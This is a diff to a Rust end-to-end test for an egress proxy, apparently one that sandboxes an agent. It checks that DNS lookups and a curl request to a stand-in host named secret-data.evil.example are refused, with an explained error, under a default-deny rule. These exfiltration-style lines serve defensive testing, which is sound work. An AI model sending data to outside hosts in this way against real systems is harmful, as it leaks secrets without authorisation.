@@ -12,10 +12,19 @@ async fn egress_dns_answers_only_names_of_rules() -> anyhow::Result<()> {
             "expected a synthetic address: {known:?}"
         );
         let unknown = agent.sh("dig secret-data.evil.example A").await?;
-        anyhow::ensure!(unknown.stdout.contains("REFUSED"), "expected REFUSED: {unknown:?}");
+        anyhow::ensure!(unknown.stdout.contains("EDE: 15"), "expected the reason: {unknown:?}");
+        agent.curl("https://secret-data.evil.example/").await?.expect_refusal("DefaultDeny")?;
+        let text = agent.sh("dig secret-data.evil.example TXT").await?;
+        anyhow::ensure!(text.stdout.contains("REFUSED"), "expected REFUSED: {text:?}");
+        // Of a name that may be looked up, other types are nothing rather than an error.
+        let mail = agent.sh("dig api.your-company.com MX").await?;
+        anyhow::ensure!(
+            mail.stdout.contains("NOERROR") && mail.stdout.contains("EDE: 15"),
+            "{mail:?}"
+        );
         // Another server's address is answered by the proxy all the same.
         let elsewhere = agent.sh("dig @203.0.113.66 secret-data.evil.example A").await?;
-        anyhow::ensure!(elsewhere.stdout.contains("REFUSED"), "expected REFUSED: {elsewhere:?}");
+        anyhow::ensure!(elsewhere.stdout.contains("EDE: 15"), "expected the reason: {elsewhere:?}");
         case.expect_nothing_at(exeat_e2e::Host::EVIL).await
     })
     .await
